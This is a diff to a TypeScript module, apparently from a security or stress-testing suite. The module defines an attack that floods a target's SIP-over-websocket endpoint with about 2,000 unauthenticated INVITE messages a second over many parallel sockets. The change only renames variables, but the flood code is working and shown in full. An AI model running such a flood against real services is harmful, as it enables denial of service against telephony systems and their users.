@@ -14,7 +14,7 @@ export const sipInvites: Attack = {
   title: 'SIP over websocket: 2,000 INVITEs a second without credentials',
   async run(target, over) {
     const results: Results = {}
-    const lanes = Array.from({ length: SOCKETS }, async (_, lane) => {
+    const workers = Array.from({ length: SOCKETS }, async (_, worker) => {
       while (!over.aborted) {
         const socket = openSocket(target, 'sip', target.token)
         socket.on('message', (data) => count(results, String(data).slice(8, 11)))
@@ -27,21 +27,21 @@ export const sipInvites: Attack = {
           sleep(1_000, false),
         ])
         count(results, opened ? 'open' : 'refused')
-        if (opened) await sendInvites(socket, lane, over)
+        if (opened) await sendInvites(socket, worker, over)
         socket.terminate()
         await sleep(100)
       }
     })
-    await Promise.all(lanes)
+    await Promise.all(workers)
     return results
   },
 }
 
-async function sendInvites(socket: WebSocket, lane: number, over: AbortSignal): Promise<void> {
+async function sendInvites(socket: WebSocket, worker: number, over: AbortSignal): Promise<void> {
   const began = performance.now()
   for (let sent = 0; !over.aborted && socket.readyState === socket.OPEN; ) {
     const due = ((performance.now() - began) / 1_000) * PER_SECOND
-    for (; sent < due; sent += 1) socket.send(invite(`${lane}-${began}-${sent}`))
+    for (; sent < due; sent += 1) socket.send(invite(`${worker}-${began}-${sent}`))
     await sleep(5)
   }
 }
